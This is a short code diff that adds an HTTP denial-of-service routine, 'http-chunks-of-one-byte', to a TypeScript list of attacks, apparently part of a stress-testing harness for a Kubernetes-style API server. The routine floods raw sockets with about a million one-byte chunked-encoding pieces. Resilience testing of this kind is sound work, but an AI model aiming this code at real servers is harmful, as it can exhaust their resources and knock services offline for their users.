@@ -59,6 +59,21 @@ export const httpAttacks: readonly LoopAttack[] = [
     },
   },
   {
+    name: 'http-chunks-of-one-byte',
+    async run(target, scale) {
+      const chunks = '1\r\n \r\n'.repeat(times(1_000_000, scale));
+      const end = '0\r\n\r\n';
+      const read = head(target, '/version');
+      const write = head(target, '/api/v1/namespaces').replace('GET', 'POST');
+      for (const start of [read, `${write}Content-Type: application/json\r\n`]) {
+        const socket = await dial(target);
+        socket?.write(`${start}Transfer-Encoding: chunked\r\n\r\n${chunks}${end}`);
+        await new Promise((resolve) => setTimeout(resolve, 3000));
+        socket?.destroy();
+      }
+    },
+  },
+  {
     name: 'http-half-bodies',
     async run(target, scale) {
       const body = 'x'.repeat(2_900_000);
